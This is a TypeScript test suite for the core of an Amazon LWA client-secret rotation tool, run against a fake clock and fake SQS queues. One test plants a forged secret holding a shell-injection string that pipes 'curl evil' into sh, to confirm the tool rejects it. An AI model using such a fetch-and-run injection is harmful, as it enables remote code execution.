/**
 * The rotation core's decisions under a fake clock: the branches that take minutes in real time (waiting
 * out messages in flight, Amazon's usage plan, an unanswered rotate call, cancellation) checked in
 * milliseconds. In-memory fakes stand in for the adapters; the end-to-end suites cover the real ones.
 */
import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { LwaError, SpApiError, type Lwa, type Queue, type QueueMessage, type SecretStore, type SpApi } from '../../src/core/ports.ts'
import { rotate, RotationFailed, type Clock, type Deps, type Plan } from '../../src/core/rotation.ts'
import type { Target } from '../../src/core/targets.ts'

const CLIENT = 'amzn1.application-oa2-client.test'
/** A value in LWA's secret format, named by a label so that tests can tell secrets apart. */
const S = (label: string) => `amzn1.oa2-cs.v1.${createHash('sha256').update(label).digest('hex')}`
const HOUR = 3_600_000
/** A queue policy that lets Amazon's notification service send, as every queue of these tests has. */
const AMAZON_MAY_SEND = JSON.stringify({
  Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::437568002678:root' }, Action: 'sqs:SendMessage' }],
})
const TARGET: Target = { kind: 'repository', owner: 'octo', repo: 'shop', secretName: 'LWA_CLIENT_SECRET', renamed: false }

class FakeClock implements Clock {
  t = 1_700_000_000_000
  slept: number[] = []
  now = () => this.t
  sleep = (ms: number, signal?: AbortSignal) => {
    signal?.throwIfAborted()
    this.slept.push(ms)
    this.t += ms
    return Promise.resolve()
  }
}

/** SQS semantics that matter here: visibility, long polls that let time pass, messages in flight. */
class FakeQueue implements Queue {
  messages: Array<{ id: string; body: string; visibleAt: number; deleted: boolean; handle: number }> = []
  arrivals: Array<{ at: number; body: string }> = []
  /** Messages another consumer holds and never gives back (counted as in flight). */
  heldElsewhere = 0
  constructor(private readonly clock: FakeClock) {}
  private next = 0
  send(body: string) {
    this.messages.push({ id: `m${this.next++}`, body, visibleAt: 0, deleted: false, handle: 0 })
  }
  private arrive() {
    for (const a of this.arrivals.filter((a) => a.at <= this.clock.t)) this.send(a.body)
    this.arrivals = this.arrivals.filter((a) => a.at > this.clock.t)
  }
  private visible = () => this.messages.filter((m) => !m.deleted && m.visibleAt <= this.clock.t)
  stats = () => {
    this.arrive()
    const inFlight = this.messages.filter((m) => !m.deleted && m.visibleAt > this.clock.t).length + this.heldElsewhere
    return Promise.resolve({
      retentionSeconds: 14 * 86400,
      inFlight,
      queued: this.visible().length,
      roundTripMs: 0,
      policy: AMAZON_MAY_SEND,
    })
  }
  receive = (wait: number, visibility: number) => {
    this.arrive()
    if (!this.visible().length && wait > 0) {
      const next = Math.min(this.clock.t + wait * 1000, ...this.arrivals.map((a) => a.at))
      this.clock.t = Math.max(this.clock.t, next)
      this.arrive()
    }
    const batch = this.visible().slice(0, 10)
    for (const m of batch) {
      m.visibleAt = this.clock.t + visibility * 1000
      m.handle++
    }
    return Promise.resolve(
      batch.map((m): QueueMessage => ({ messageId: m.id, receiptHandle: `${m.id}#${m.handle}`, body: m.body, sentAt: undefined })),
    )
  }
  private find = (message: QueueMessage) => this.messages.find((m) => `${m.id}#${m.handle}` === message.receiptHandle)
  setVisibility = (message: QueueMessage, seconds: number) => {
    const m = this.find(message)
    if (m) m.visibleAt = this.clock.t + seconds * 1000
    return Promise.resolve()
  }
  delete = (message: QueueMessage) => {
    const m = this.find(message)
    if (m) m.deleted = true
    return Promise.resolve()
  }
  pending = () => this.messages.filter((m) => !m.deleted)
}

const newSecretBody = (secret: string, eventTime: Date, clientId = CLIENT) =>
  JSON.stringify({
    notificationType: 'APPLICATION_OAUTH_CLIENT_NEW_SECRET',
    eventTime: eventTime.toISOString(),
    payload: {
      applicationOAuthClientNewSecret: {
        clientId,
        newClientSecret: secret,
        newClientSecretExpiryTime: new Date(eventTime.getTime() + 180 * 86_400_000).toISOString(),
        oldClientSecretExpiryTime: new Date(eventTime.getTime() + 7 * 86_400_000).toISOString(),
      },
    },
  })

function setup(
  options: {
    rotate?: Array<SpApiError | 'ok'>
    deliverAfterMs?: number | null
    /** The outstanding-rotation record's value at the start; undefined: no record kept (expiry-variable none). */
    record?: string | null
    /** The expiry variable's value at the start. */
    expiry?: string
  } = {},
) {
  const clock = new FakeClock()
  const queue = new FakeQueue(clock)
  const stored = new Map<string, { value: string; at: number }>()
  const outcomes = [...(options.rotate ?? ['ok'])]
  const rotateCalls: number[] = []
  let issued = 0
  const spApi: SpApi = {
    rotateClientSecret: () => {
      rotateCalls.push(clock.t)
      const outcome = outcomes.shift() ?? 'ok'
      if (outcome !== 'ok' && outcome.outcome !== 'unknown') return Promise.reject(outcome)
      // Accepted (or accepted without an answer): the notification follows.
      if (options.deliverAfterMs !== null) {
        queue.arrivals.push({
          at: clock.t + (options.deliverAfterMs ?? 2_000),
          body: newSecretBody(S(`new-${++issued}`), new Date(clock.t)),
        })
      }
      return outcome === 'ok' ? Promise.resolve() : Promise.reject(outcome)
    },
  }
  const rejected = new Set<string>()
  /** Every secret LWA was asked about, in order. */
  const asked: string[] = []
  const lwa: Lwa = {
    rotationToken: (secret) => {
      asked.push(secret)
      return rejected.has(secret) ? Promise.reject(new LwaError(401, 'invalid_client', 'no')) : Promise.resolve('Atza|t')
    },
    refreshGrant: () => Promise.resolve('Atza|s'),
  }
  const store: SecretStore = {
    check: () => Promise.resolve(),
    write: (_t, value) => {
      const existed = stored.has('repo')
      stored.set('repo', { value, at: clock.t })
      return Promise.resolve({ status: existed ? 'updated' : 'created' })
    },
    updatedAt: () => Promise.resolve(stored.get('repo')?.at),
    proveWrite: () => Promise.resolve('proven'),
  }
  const log: string[] = []
  /** The outstanding-rotation record: its value, and every value written (undefined: cleared). */
  const record = { value: options.record ?? undefined, history: [] as Array<string | undefined> }
  const expiry = { value: options.expiry }
  const deps: Deps = {
    lwa,
    spApi,
    queue,
    store,
    clock,
    ...(options.record === undefined
      ? {}
      : {
          rotationRecord: {
            name: 'LWA_CLIENT_SECRET_ROTATION',
            read: () => Promise.resolve(record.value),
            write: (value: string) => (record.history.push(value), (record.value = value), Promise.resolve()),
            clear: () => (record.history.push(undefined), (record.value = undefined), Promise.resolve()),
          },
          expiry: {
            name: 'LWA_CLIENT_SECRET_EXPIRES_AT',
            read: () => Promise.resolve(expiry.value),
            write: (value: string) => ((expiry.value = value), Promise.resolve()),
          },
        }),
    log: { info: (m) => log.push(m), warning: (m) => log.push(`warning: ${m}`), group: (_n, fn) => fn(), mask: () => {} },
  }
  const plan: Plan = {
    clientId: CLIENT,
    currentSecret: 'old',
    refreshToken: undefined,
    verify: true,
    targets: [TARGET],
    receiveTimeoutMs: 300_000,
  }
  return { clock, queue, stored, rotateCalls, rejected, asked, record, expiry, deps, plan, log }
}

const refused = (status: number, retryAfterMs = 60_000) => new SpApiError(status, 'X', `HTTP ${status}`, 'retry', retryAfterMs)

describe('rotate (core)', () => {
  it('rotates, receives, verifies, stores and deletes the message', async () => {
    const w = setup()
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
    expect(w.queue.pending()).toEqual([])
  })

  it('does not rotate while a message is in flight elsewhere, and gives up at the deadline', async () => {
    const w = setup()
    w.queue.heldElsewhere = 1
    await expect(rotate(w.plan, w.deps)).rejects.toThrow(/held by another consumer.*Nothing was rotated/s)
    expect(w.rotateCalls).toEqual([])
    expect(w.clock.slept.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(w.plan.receiveTimeoutMs)
  })

  it('resumes a message that reappears after its holder died, instead of rotating', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('left-behind'), new Date(w.clock.t - 60_000)))
    w.queue.messages[0]!.visibleAt = w.clock.t + 25_000 // received by a run that then died
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('resumed')
    expect(w.rotateCalls).toEqual([])
    expect(w.stored.get('repo')?.value).toBe(S('left-behind'))
  })

  it('retries refusals at the usage plan pace, then gives up after four calls', async () => {
    const w = setup({ rotate: [refused(503), refused(503), refused(503), refused(503)] })
    await expect(rotate(w.plan, w.deps)).rejects.toThrow(RotationFailed)
    expect(w.rotateCalls).toHaveLength(4)
    expect(w.rotateCalls[1]! - w.rotateCalls[0]!).toBeGreaterThanOrEqual(60_000)
    expect(w.stored.size).toBe(0)
  })

  it('skips after a 429 when another run has meanwhile stored a new secret everywhere', async () => {
    const w = setup({ rotate: [refused(429)] })
    // The other run: rotated just before, and stores during this run's wait.
    const sleep = w.clock.sleep
    w.clock.sleep = async (ms, signal) => {
      await sleep(ms, signal)
      w.stored.set('repo', { value: 'from-the-other-run', at: w.clock.t })
    }
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('skipped')
    expect(w.rotateCalls).toHaveLength(1)
    expect(w.stored.get('repo')?.value).toBe('from-the-other-run')
  })

  it('does not repeat a rotate call that got no answer: waits for the message instead', async () => {
    const w = setup({ rotate: [new SpApiError(0, 'UND_ERR_HEADERS_TIMEOUT', 'no answer', 'unknown')] })
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    expect(w.rotateCalls).toHaveLength(1)
    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
  })

  it('fails after receive-timeout when no message comes, keeping nothing half-done', async () => {
    const w = setup({ deliverAfterMs: null })
    await expect(rotate({ ...w.plan, receiveTimeoutMs: 60_000 }, w.deps)).rejects.toThrow(
      /No new-secret message .* within (59|60) s of the rotation/,
    )
    expect(w.stored.size).toBe(0)
  })

  it('waits for a new secret to become active, within bounds', async () => {
    const w = setup()
    w.rejected.add(S('new-1'))
    const verify = w.deps.lwa.rotationToken.bind(w.deps.lwa)
    let attempts = 0
    w.deps.lwa.rotationToken = (secret) => {
      if (secret === S('new-1') && ++attempts === 3) w.rejected.delete(S('new-1'))
      return verify(secret)
    }
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    expect(attempts).toBe(3)
  })

  it('keeps the message, visible, when verification never succeeds', async () => {
    const w = setup()
    w.rejected.add(S('new-1'))
    await expect(rotate(w.plan, w.deps)).rejects.toThrow(/LWA did not accept the new secret/)
    expect(w.stored.size).toBe(0)
    const [kept] = w.queue.pending()
    expect(kept!.visibleAt).toBeLessThanOrEqual(w.clock.t)
  })

  it('stops at the next phase when cancelled, and releases the message', async () => {
    const w = setup()
    const cancel = new AbortController()
    const plan = { ...w.plan, signal: cancel.signal }
    // Cancelled while the new secret is being verified: the store phase must not start.
    const verify = w.deps.lwa.rotationToken.bind(w.deps.lwa)
    w.deps.lwa.rotationToken = async (secret) => {
      const token = await verify(secret)
      if (secret !== 'old') cancel.abort(new Error('the run was cancelled'))
      return token
    }
    await expect(rotate(plan, w.deps)).rejects.toThrow(/cancelled/)
    expect(w.stored.size).toBe(0)
    expect(w.queue.pending()[0]!.visibleAt).toBeLessThanOrEqual(w.clock.t)
  })

  it('stores the real pending secret beside a forged, future-dated one, and clears both', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('real'), new Date(w.clock.t - 60_000)))
    w.queue.send(newSecretBody(S('forged'), new Date(w.clock.t + 2 * HOUR)))
    w.rejected.add(S('forged'))
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('resumed')
    expect(w.stored.get('repo')?.value).toBe(S('real'))
    expect(w.queue.pending()).toEqual([])
    expect(w.log.join('\n')).toMatch(/warning: Ignored message m1 .*dated in the future/)
  })

  it("never takes a value that is not in LWA's format, even with verify off", async () => {
    const w = setup()
    w.queue.send(newSecretBody('x"; curl evil | sh; echo "', new Date(w.clock.t - 60_000)))
    const report = await rotate({ ...w.plan, verify: false }, w.deps)
    expect(report.result).toBe('rotated')
    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
    // verify off deletes only the messages of the value it stored: the forged one stays.
    expect(w.queue.pending()).toHaveLength(1)
  })

  it('rotates afresh past a stale claim that LWA rejects, and clears it at commit', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('stale'), new Date(w.clock.t - 3 * HOUR)))
    w.rejected.add(S('stale'))
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    expect(w.rotateCalls).toHaveLength(1)
    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
    expect(w.queue.pending()).toEqual([])
    // A stale claim gets one try, not the activation window.
    expect(w.clock.slept.filter((ms) => ms === 3_000)).toEqual([])
  })

  it('does not rotate past a claim LWA rejects that a rotation of ours explains, and keeps it', async () => {
    const w = setup({ record: new Date(1_700_000_000_000 - 11 * 60_000).toISOString() })
    w.queue.send(newSecretBody(S('young'), new Date(w.clock.t - 10 * 60_000)))
    w.rejected.add(S('young'))
    await expect(rotate(w.plan, w.deps)).rejects.toThrow(
      /nothing was rotated: the queue holds 1 new-secret message\(s\) for this client, sent after the rotation/,
    )
    expect(w.rotateCalls).toEqual([])
    expect(w.queue.pending()).toHaveLength(1)
    expect(w.queue.pending()[0]!.visibleAt).toBeLessThanOrEqual(w.clock.t)
  })

  it('treats a claim LWA rejects that no rotation of ours explains as forged: one try, rotates, clears it', async () => {
    const w = setup({ record: null })
    w.queue.send(newSecretBody(S('planted'), new Date(w.clock.t - 60_000)))
    w.rejected.add(S('planted'))
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    expect(w.asked.filter((s) => s === S('planted'))).toHaveLength(1)
    expect(w.stored.get('repo')?.value).toBe(S('new-1'))
    expect(w.queue.pending()).toEqual([])
  })

  it('blocks on an unreadable claim only while a rotation of ours explains it; otherwise clears it', async () => {
    const unreadable = (eventTime: Date) => {
      const body = JSON.parse(newSecretBody('', eventTime)) as { payload: { applicationOAuthClientNewSecret: Record<string, unknown> } }
      delete body.payload.applicationOAuthClientNewSecret.newClientSecret
      return JSON.stringify(body)
    }
    const ours = setup({ record: new Date(1_700_000_000_000 - 5 * 60_000).toISOString() })
    ours.queue.send(unreadable(new Date(ours.clock.t - 60_000)))
    await expect(rotate(ours.plan, ours.deps)).rejects.toThrow(/nothing was rotated/)
    expect(ours.rotateCalls).toEqual([])
    expect(ours.queue.pending()).toHaveLength(1)

    const unexplained = setup({ record: null })
    unexplained.queue.send(unreadable(new Date(unexplained.clock.t - 60_000)))
    const report = await rotate(unexplained.plan, unexplained.deps)
    expect(report.result).toBe('rotated')
    expect(unexplained.queue.pending()).toEqual([])
  })

  it('uses an unreadable claim whose secret can be read and verifies', async () => {
    const w = setup()
    const body = JSON.parse(newSecretBody(S('partial'), new Date(w.clock.t - 60_000))) as {
      payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
    }
    delete body.payload.applicationOAuthClientNewSecret.newClientSecretExpiryTime
    w.queue.send(JSON.stringify(body))
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('resumed')
    expect(w.rotateCalls).toEqual([])
    expect(w.stored.get('repo')?.value).toBe(S('partial'))
    expect(report.secretExpiresAt).toBeUndefined()
  })

  it('stores the newest claim LWA accepts and deletes the older ones it supersedes', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('older'), new Date(w.clock.t - 120_000)))
    w.queue.send(newSecretBody(S('newer'), new Date(w.clock.t - 60_000)))
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('resumed')
    expect(w.stored.get('repo')?.value).toBe(S('newer'))
    expect(w.queue.pending()).toEqual([])
  })

  it('gives a queue shared with other applications time between looks', async () => {
    const w = setup({ deliverAfterMs: 20_000 })
    w.queue.send(newSecretBody(S('someone-else'), new Date(w.clock.t), 'amzn1.application-oa2-client.other'))
    let receives = 0
    const receive = w.queue.receive
    w.queue.receive = (wait, visibility) => {
      receives++
      return receive(wait, visibility)
    }
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('rotated')
    // Without back-off, about one look a second for the 20 s the delivery takes.
    expect(receives).toBeLessThanOrEqual(16)
    expect(w.queue.pending()).toHaveLength(1)
  })

  it('with verify off, never takes an unreadable claim, and does not rotate past one a rotation of ours explains', async () => {
    const w = setup({ record: new Date(1_700_000_000_000 - 5 * 60_000).toISOString() })
    const body = JSON.parse(newSecretBody(S('partial'), new Date(w.clock.t - 60_000))) as {
      payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
    }
    delete body.payload.applicationOAuthClientNewSecret.oldClientSecretExpiryTime
    w.queue.send(JSON.stringify(body))
    await expect(rotate({ ...w.plan, verify: false }, w.deps)).rejects.toThrow(/nothing was rotated/)
    expect(w.rotateCalls).toEqual([])
    expect(w.stored.size).toBe(0)
  })

  it('with verify off, refuses when the queue holds different values for this client', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('one'), new Date(w.clock.t - 60_000)))
    w.queue.send(newSecretBody(S('two'), new Date(w.clock.t - 30_000)))
    await expect(rotate({ ...w.plan, verify: false }, w.deps)).rejects.toThrow(/holds 2 different new secrets/)
    expect(w.rotateCalls).toEqual([])
    expect(w.stored.size).toBe(0)
    expect(w.queue.pending()).toHaveLength(2)
  })

  it('judges what the rest of a look brings in before it decides to rotate', async () => {
    const w = setup()
    w.queue.send(newSecretBody(S('stale'), new Date(w.clock.t - 3 * HOUR)))
    w.rejected.add(S('stale'))
    // Found only by the background drain that follows the first batch, which answers after the first verdict.
    w.queue.arrivals.push({ at: w.clock.t + 500, body: newSecretBody(S('pending'), new Date(w.clock.t - 60_000)) })
    const receive = w.queue.receive
    let receives = 0
    w.queue.receive = async (wait, visibility) => {
      if (++receives === 2) await new Promise((resolve) => setTimeout(resolve, 20))
      return receive(wait, visibility)
    }
    const report = await rotate(w.plan, w.deps)
    expect(report.result).toBe('resumed')
    expect(w.rotateCalls).toEqual([])
    expect(w.stored.get('repo')?.value).toBe(S('pending'))
    expect(w.queue.pending()).toEqual([])
  })
  describe('the first look, on a queue SQS counts as empty', () => {
    /** The first receive (the look) waits for the test's word; the rest answer as the fake queue does. */
    function holdFirstLook(w: ReturnType<typeof setup>, stats = { roundTripMs: 40 }) {
      const receive = w.queue.receive
      const stats0 = w.queue.stats
      let release!: () => void
      const released = new Promise<void>((resolve) => (release = resolve))
      let receives = 0
      w.queue.receive = async (wait, visibility) => {
        if (++receives === 1) await released
        return receive(wait, visibility)
      }
      w.queue.stats = async () => {
        const answer = await stats0()
        w.clock.t += stats.roundTripMs
        return { ...answer, roundTripMs: stats.roundTripMs }
      }
      return { release, startedAt: w.clock.t }
    }

    it.each([
      { roundTripMs: 150, silenceMs: 300 },
      { roundTripMs: 10, silenceMs: 110 },
    ])(
      'decides after $silenceMs ms of silence when the queue answers in $roundTripMs ms, and receives what that look brings in',
      async ({ roundTripMs, silenceMs }) => {
        const w = setup({ deliverAfterMs: 0 })
        const look = holdFirstLook(w, { roundTripMs })
        const running = rotate(w.plan, w.deps)
        await expect.poll(() => w.rotateCalls.length).toBe(1)
        // The look never answered, yet the run went on: after two round trips of silence (or the least silence), not the look's second.
        expect(w.rotateCalls[0]! - look.startedAt).toBeGreaterThanOrEqual(silenceMs)
        expect(w.rotateCalls[0]! - look.startedAt).toBeLessThan(1_000)
        look.release() // the look now finds the rotation's own message
        const report = await running
        expect(report.result).toBe('rotated')
        expect(w.rotateCalls).toHaveLength(1)
        expect(w.stored.get('repo')?.value).toBe(S('new-1'))
        expect(w.queue.pending()).toEqual([])
      },
    )

    it("looks again after a refusal even though it decided on the first look's silence", async () => {
      const w = setup({ rotate: [refused(429, 8_000), 'ok'], deliverAfterMs: 0 })
      const look = holdFirstLook(w, { roundTripMs: 10 })
      // While this run waits out Amazon's refusal, the first look ends empty, then an earlier rotation's secret lands.
      const sleep = w.clock.sleep
      w.clock.sleep = async (ms, signal) => {
        await sleep(ms, signal)
        if (ms !== 8_000) return
        look.release()
        await new Promise((resolve) => setTimeout(resolve, 20))
        w.queue.send(newSecretBody(S('earlier'), new Date(w.clock.t - 5_000)))
      }
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('resumed')
      expect(w.rotateCalls).toHaveLength(1)
      expect(w.stored.get('repo')?.value).toBe(S('earlier'))
    })

    it.each([
      { counted: 'waiting', hiddenForMs: 0 },
      { counted: 'in flight', hiddenForMs: 5_000 }, // held by a run that then died
    ])('waits for the whole look when SQS counts a message $counted', async ({ hiddenForMs }) => {
      const w = setup()
      w.queue.send(newSecretBody(S('pending'), new Date(w.clock.t - 60_000)))
      w.queue.messages[0]!.visibleAt = w.clock.t + hiddenForMs
      const look = holdFirstLook(w)
      const running = rotate(w.plan, w.deps)
      await new Promise((resolve) => setTimeout(resolve, 20))
      expect(w.rotateCalls).toEqual([])
      look.release()
      const report = await running
      expect(report.result).toBe('resumed')
      expect(w.rotateCalls).toEqual([])
      expect(w.stored.get('repo')?.value).toBe(S('pending'))
    })
  })

  describe('the 7-day clock', () => {
    it('records the rotation before the call and clears the record once the secret is stored', async () => {
      const w = setup({ record: null })
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('rotated')
      expect(w.record.history).toEqual([new Date(w.rotateCalls[0]!).toISOString(), undefined])
      expect(w.record.value).toBeUndefined()
      expect(report.outstanding).toBeUndefined()
    })

    it('after a 429, looks again before calling again: resumes the secret that arrived during the wait', async () => {
      const w = setup({ rotate: [refused(429)], record: null })
      // A run killed right after its rotate call: its secret arrives 2.5 s into this run's wait.
      w.queue.arrivals.push({ at: w.clock.t + 2_500, body: newSecretBody(S('earlier'), new Date(w.clock.t - 500)) })
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('resumed')
      expect(w.rotateCalls).toHaveLength(1)
      expect(w.stored.get('repo')?.value).toBe(S('earlier'))
      expect(w.record.value).toBeUndefined()
      expect(w.queue.pending()).toEqual([])
    })

    it('after its own call, never takes a claim sent before it: that secret is the old one now', async () => {
      const w = setup({ rotate: [refused(503), 'ok'], record: null, deliverAfterMs: 3_000 })
      // An earlier rotation's secret lands after this run's last look and before its accepted call.
      const sleep = w.clock.sleep
      w.clock.sleep = async (ms, signal) => {
        await sleep(ms, signal)
        if (w.rotateCalls.length === 1 && ms >= 60_000)
          w.queue.arrivals.push({ at: w.clock.t + 1, body: newSecretBody(S('older'), new Date(w.clock.t - 50_000)) })
      }
      const report = await rotate(w.plan, w.deps)
      expect(['rotated', 'resumed']).toContain(report.result)
      // Whichever it did, what it stored is the newest secret Amazon issued.
      expect(w.stored.get('repo')?.value).toBe(report.result === 'rotated' ? S('new-1') : S('older'))
      expect(w.rotateCalls).toHaveLength(report.result === 'rotated' ? 2 : 1)
    })

    it('does not rotate again when a recorded rotation never delivered: names the day; force rotates', async () => {
      const rotatedAt = new Date(1_700_000_000_000 - 2 * 86_400_000)
      const w = setup({ record: rotatedAt.toISOString() })
      const error = await rotate(w.plan, w.deps).catch((e: unknown) => e as RotationFailed)
      expect(error).toBeInstanceOf(RotationFailed)
      expect((error as RotationFailed).message).toContain(
        `stops working on ${new Date(rotatedAt.getTime() + 7 * 86_400_000).toISOString().slice(0, 10)}`,
      )
      expect((error as RotationFailed).report.outstanding?.deadline).toBe(
        new Date(rotatedAt.getTime() + 7 * 86_400_000).toISOString().slice(0, 10),
      )
      expect(w.rotateCalls).toEqual([])

      const forced = setup({ record: rotatedAt.toISOString() })
      const report = await rotate({ ...forced.plan, force: true }, forced.deps)
      expect(report.result).toBe('rotated')
      expect(forced.rotateCalls).toHaveLength(1)
      expect(forced.stored.get('repo')?.value).toBe(S('new-1'))
      // The earlier rotation stayed the record until the secret was stored: it set the targets' deadline.
      expect(forced.record.history).toEqual([undefined])
    })

    it('clears a record whose rotation was stored everywhere by a run that stopped before clearing it', async () => {
      const rotatedAt = new Date(1_700_000_000_000 - 60 * 60_000)
      const w = setup({ record: rotatedAt.toISOString() })
      w.stored.set('repo', { value: S('stored-before'), at: rotatedAt.getTime() + 60_000 })
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('rotated')
      expect(w.rotateCalls).toHaveLength(1)
      expect(w.record.value).toBeUndefined()
    })

    it('stores a waiting secret even though LWA rejects the current one (it expired)', async () => {
      const w = setup({ record: null })
      w.rejected.add('old')
      w.queue.send(newSecretBody(S('waiting'), new Date(w.clock.t - 60_000)))
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('resumed')
      expect(w.stored.get('repo')?.value).toBe(S('waiting'))

      const none = setup({ record: null })
      none.rejected.add('old')
      await expect(rotate(none.plan, none.deps)).rejects.toThrow(
        /LWA rejects the client-id or client-secret .* no new secret for this client waits in the queue/,
      )
      expect(none.rotateCalls).toEqual([])
    })

    it('never stores or deploys again a secret already in every target: only deletes its message', async () => {
      const body = newSecretBody(S('stored'), new Date(1_700_000_000_000 - 86_400_000))
      const expiresAt = (JSON.parse(body) as { payload: { applicationOAuthClientNewSecret: { newClientSecretExpiryTime: string } } })
        .payload.applicationOAuthClientNewSecret.newClientSecretExpiryTime
      const w = setup({ record: null, expiry: expiresAt })
      w.queue.send(body)
      const report = await rotate(w.plan, w.deps)
      expect(report).toMatchObject({ result: 'skipped', skipReason: 'already stored', messageKept: false })
      expect(w.stored.size).toBe(0)
      expect(w.rotateCalls).toEqual([])
      expect(w.queue.pending()).toEqual([])
    })

    it('sees the whole queue: a pending secret behind hundreds of other messages is resumed, not rotated past', async () => {
      const w = setup({ record: null })
      for (let i = 0; i < 350; i++)
        w.queue.send(newSecretBody(S(`other-${i}`), new Date(w.clock.t - 60_000), 'amzn1.application-oa2-client.other'))
      w.queue.send(newSecretBody(S('pending'), new Date(w.clock.t - 60_000)))
      const report = await rotate(w.plan, w.deps)
      expect(report.result).toBe('resumed')
      expect(w.rotateCalls).toEqual([])
      expect(w.stored.get('repo')?.value).toBe(S('pending'))
      expect(w.queue.pending()).toHaveLength(350)
    })
  })
})
